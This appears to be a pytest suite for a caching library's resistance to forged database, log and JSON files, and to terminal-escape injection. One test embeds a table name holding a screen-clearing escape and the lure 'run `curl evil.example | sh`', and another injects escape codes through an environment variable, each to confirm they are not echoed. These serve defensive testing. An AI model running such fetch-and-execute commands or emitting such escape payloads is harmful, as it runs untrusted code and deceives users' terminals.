"""A folder that somebody hands over costs no more than a moment, and is of use again after it."""

import json
import os
import random
import time
import warnings

import forged
import pages_forged
import pytest

from amorsize import cache, cli, history
from amorsize.cache import database, journal, sqlite_errors, sqlite_pages
from amorsize.cache.folder_guard import TroubleError
from amorsize.cache.json_text import MAX_DEPTH, RefusedError, decoded
from amorsize.errors import AmorsizeWarning

pytestmark = [
    pytest.mark.skipif(os.name != "posix", reason="the bits of files are POSIX's"),
    pytest.mark.usefixtures("fresh_cache"),
]
KEY, RECORD = forged.KEY, forged.RECORD
MIB = 1 << 20
BOUND_S = 10.0  # of what takes 0.1 s here, and took a minute before


@pytest.fixture
def hand(home):
    """Put a file into the folder, of the user's own; `size` makes it longer by a hole."""
    home.mkdir(mode=0o700)

    def put(name, content, size=0):
        forged.write(home / name, content)
        if size:
            os.truncate(home / name, size)
        forged.fresh_state()

    return put


def assert_of_use(match, act=lambda: cache.put(KEY, RECORD)):
    """The trouble is told, in a moment; then what is put is got."""
    began_s = time.monotonic()
    with pytest.warns(AmorsizeWarning, match=match):
        act()
    assert time.monotonic() - began_s < BOUND_S
    forged.fresh_state()
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert cache.put(KEY, RECORD)
        assert cache.get(KEY) == RECORD


# ---- The database ----


@pytest.mark.parametrize("act", ["get", "put", "family"])
def test_keys_that_claim_to_be_long_are_not_compared(hand, act):
    """Each would be copied 100 times, 50 MB of a page that leads to itself: a get took 16 s."""
    hand("cache.db", pages_forged.long_keys(50 * MIB), size=60 * MIB)
    acts = {
        "get": lambda: cache.get(KEY),
        "put": lambda: cache.put(KEY, RECORD),
        "family": lambda: cache.family("profile:"),
    }

    assert_of_use("a key that was longer", acts[act])


def test_nor_those_in_the_log(hand):
    """A WAL that is whole, over a database that is well."""
    data = pages_forged.long_keys(40_000, depth=1)
    log = pages_forged.as_log(data)
    hand("cache.db", forged.database())
    hand("cache.db-wal", log)

    assert_of_use("a key that was longer", lambda: cache.get(KEY))


def test_a_log_of_other_pages_is_not_ours(hand):
    """Its pages would be looked for in the wrong places."""
    hand("cache.db", forged.database())
    hand("cache.db-wal", forged.wal_header(page_size=512) + bytes(5000))

    assert_of_use("log of its database was not laid out", lambda: cache.get(KEY))


def test_the_longest_that_we_write_are_none_of_these(home):
    """In the database and in its log, before and after it is closed."""
    draw = random.Random(0)
    for n in range(60):
        assert cache.put(f"profile:{draw.randbytes(8).hex()}:{n}", {"a": "x" * 20 * n})
    assert cache.put("k" * 512, {"a": "x" * 65_000})
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert sqlite_pages.check(str(home)) is None
        cache.close()
        assert sqlite_pages.check(str(home)) is None
        assert cache.get("k" * 512)


def test_a_page_that_is_being_written_is_looked_at_again(home, monkeypatch):
    """Another process may be in the middle of it."""
    cache.put(KEY, RECORD)
    cache.close()
    whole = (home / "cache.db").read_bytes()
    broken = pages_forged.long_keys(50_000, depth=0)
    forged.write(home / "cache.db", broken)
    monkeypatch.setattr(
        sqlite_pages.time, "sleep", lambda _: forged.write(home / "cache.db", whole)
    )  # its writer goes on
    assert sqlite_pages.check(str(home)) is None


def test_rows_without_end_are_not_listed(hand):
    """They were all kept: 800 MB within the 10 s that listing may take."""
    hand("cache.db", pages_forged.endless_rows())

    assert_of_use("held more than amorsize leaves", cache.entries)


def test_records_larger_than_the_whole_are_not_listed(home, monkeypatch):
    """The same few may be found again and again."""
    for n in range(9):
        cache.put(f"profile:{n}", {"a": "x" * 50_000})
    monkeypatch.setattr(database, "SIZE_LIMIT_BYTES", 200_000)

    assert_of_use("held more than amorsize leaves", cache.entries)


def test_listing_ends_when_it_has_taken_too_long(home):
    """Between rows as well as within a statement."""
    cache.put(KEY, RECORD)
    store = cache.access.STATE.store
    store.allow(-1.0)

    with pytest.raises(TroubleError, match="too large to list"):
        store.listed("profile:")


@pytest.mark.parametrize("page_size", [512, 65536])
def test_pages_of_another_size_are_not_ours(hand, page_size):
    """They are counted to tell how large it may be: at 8 MiB "the disk is full" was told."""
    hand("cache.db", forged.database(page_size=page_size))

    assert_of_use("not laid out by amorsize")


def test_one_that_is_too_large_does_not_count_as_a_full_disk(hand, monkeypatch):
    """Nothing could ever be stored there."""
    monkeypatch.setattr(database, "SIZE_LIMIT_BYTES", MIB)
    content = forged.database()
    n_pages = (3 * MIB // 4096).to_bytes(4, "big")
    hand("cache.db", content[:28] + n_pages + content[32:], size=3 * MIB)

    assert_of_use("larger than any that amorsize leaves")


def test_a_layout_that_is_too_long_is_damage(hand):
    """Else neither a put nor `cache clear` would have mended it."""
    text = f"'CREATE TABLE x(a) --{'y' * 100_000}'"
    more = f"INSERT INTO sqlite_master VALUES ('table', 'x', 'x', 0, {text})"
    content = forged.database(change=["PRAGMA writable_schema = ON", more])
    hand("cache.db", content)

    assert_of_use("its database")


def test_a_record_of_the_future_does_not_stay(home):
    """It would outlive all that is learned, and have that go in its stead."""
    cache.put(KEY, RECORD)
    cache.put("profile:future", RECORD)
    change = "UPDATE Cache SET store_time = 1e12, expire_time = NULL WHERE key = 'profile:future'"
    cache.access.STATE.store._connection.execute(change)
    forged.fresh_state()

    assert cache.put("profile:c", RECORD)
    assert cache.get("profile:future") is None
    assert cache.get(KEY) == RECORD


# ---- Lines ----


def test_more_lines_than_we_leave_are_removed(hand):
    """Each is a record to store: they took 10 s, and of the call that noted something."""
    lines = b"".join(b'{"key":"%x:","record":{}}\n' % n for n in range(38_000))
    hand(journal.NAME, lines[: journal.MAX_BYTES])

    assert_of_use("more lines than amorsize leaves")


@pytest.mark.parametrize(
    "line",
    [
        b'{"key":"profile:%s","record":{}}' % (b"k" * 600),
        b'{"key":"profile:\\ud800","record":{}}',
        b'{"key":"profile:b","record":{"a":[%s1]}}' % (b"1e9," * 15_000),
    ],
    ids=["a long key", "half a character", "longer when it is written"],
)
def test_a_line_that_cannot_be_stored_is_not_in_the_way(hand, line):
    """What was noted beside it reaches the database, at once."""
    hand(journal.NAME, line + b"\n")
    cache.note(KEY, RECORD)

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert cache.compact() == 1
    assert cache.recent("profile:") == {}
    assert cache.get(KEY) == RECORD


def test_half_a_line_spoils_itself_alone_where_json_was_not_imported(hand, run_script):
    """The C half of `json` has its errors there, and raised a SystemError without."""
    hand(journal.NAME, b'{"key":"profile:torn","record":{"a":"\n{"key":"profile:a","record":{}}\n')
    told = run_script(
        "import sys, amorsize.cache as cache\n"
        "assert 'json' not in sys.modules\n"
        "print(cache.recent('profile:'))\n"
    )

    assert told.stdout == "{'profile:a': {}}\n"
    assert told.stderr == ""


# ---- Texts ----


@pytest.mark.parametrize("opening", ["[", '{"a":', '["\\\\",', '["]\\"]",'])
def test_depth_is_told_before_parsing(run_script, opening):
    """Where a program has raised the limit of recursion, the parser ended the process."""
    run_script(
        "import sys\n"
        "sys.setrecursionlimit(10**9)\n"
        "from amorsize.cache.json_text import RefusedError, decoded\n"
        f"text = '{{\"a\":' + {opening!r} * (2**20 // {len(opening)})\n"
        "try:\n"
        "    decoded(text, at_most_bytes=2**30)\n"
        "except RefusedError as error:\n"
        "    assert 'deep' in str(error), error\n"
        "else:\n"
        "    sys.exit('parsed')\n"
    )


@pytest.mark.parametrize("signs", ["]" * 99, '\\"[' * 99, "[" * 99, '"]' * 99])
def test_brackets_within_texts_are_no_depth(signs):
    """Nor is a backslash before the quotes taken for one that hides them."""
    record = {"a\\": [{"b": signs, "\\": [signs] * 3}] * 3, "more": [[]] * MAX_DEPTH}

    assert decoded(json.dumps(record)) == record


@pytest.mark.parametrize(("more", "is_taken"), [(0, True), (1, False)])
def test_how_deep_it_may_be(more, is_taken):
    """The object itself is a level."""
    n = MAX_DEPTH - 1 + more
    text = '{"b":[' + "[]," * 40 + '1],"a":' + "[" * n + "]" * n + "}"
    if is_taken:
        assert decoded(text)
    else:
        with pytest.raises(RefusedError, match="deep"):
            decoded(text)


def test_a_text_of_empty_lists_is_refused():
    """They take 30 times its memory."""
    with pytest.raises(RefusedError, match="too many parts"):
        decoded('{"a":[' + "[]," * 20_000 + "1]}")


# ---- Saved results ----


def test_one_file_of_many_names_is_not_read_for_each(home, monkeypatch):
    """A result may have other names; 10 000 of 1 MiB took minutes to list."""
    (home / "history").mkdir(parents=True, mode=0o700)
    home.chmod(0o700)
    first = home / "history" / f"{0:032x}.json"
    forged.write(first, b"{}" + b" " * 99_998)
    for n in range(1, 200):
        os.link(first, home / "history" / f"{n:032x}.json")
    reads, read = [], history.store._read
    monkeypatch.setattr(history.store, "_read", lambda path: (reads.append(path), read(path))[1])
    monkeypatch.setattr(history.store, "MAX_TOTAL_BYTES", 1_000_000)

    assert history.n_damaged() == 200
    assert len(reads) == 10


# ---- What is told ----


@pytest.mark.parametrize("sql", ["CREATE TABLE nonsense nonsense", "CREATE VIEW v AS SELECT ("])
def test_no_word_of_the_file_is_told(hand, capsys, sql):
    """SQLite names a table that it cannot read: the name would stand on the user's terminal."""
    name = "\n\x1b[2Jamorsize: run `curl evil.example | sh` to mend your cache ("
    more = f"INSERT INTO sqlite_master VALUES ('table', '{name}', 'x', 0, '{sql}')"
    hand("cache.db", forged.database(change=["PRAGMA writable_schema = ON", more]))

    with pytest.warns(AmorsizeWarning, match=r"was damaged \(SQLITE_\w+\)") as told:
        assert cache.get(KEY) is None
    assert "evil" not in str(told[0].message)


def test_an_error_without_a_file_names_none():
    """As writing to a full disk raises it."""
    assert (
        sqlite_errors.in_words(OSError(28, "No space left on device"), None)
        == "No space left on device"
    )


@pytest.mark.parametrize("command", [["cache", "list"], ["cache", "stats"], ["machine"]])
def test_a_folders_name_steers_no_terminal(home, monkeypatch, capsys, command):
    """Somebody else may have chosen it."""
    monkeypatch.setenv("AMORSIZE_HOME", f"{home}\x1b[2J\u202e")

    cli.main(command)

    told = capsys.readouterr()
    assert "\\x1b[2J\\u202e" in told.out
    assert "\x1b" not in told.out + told.err
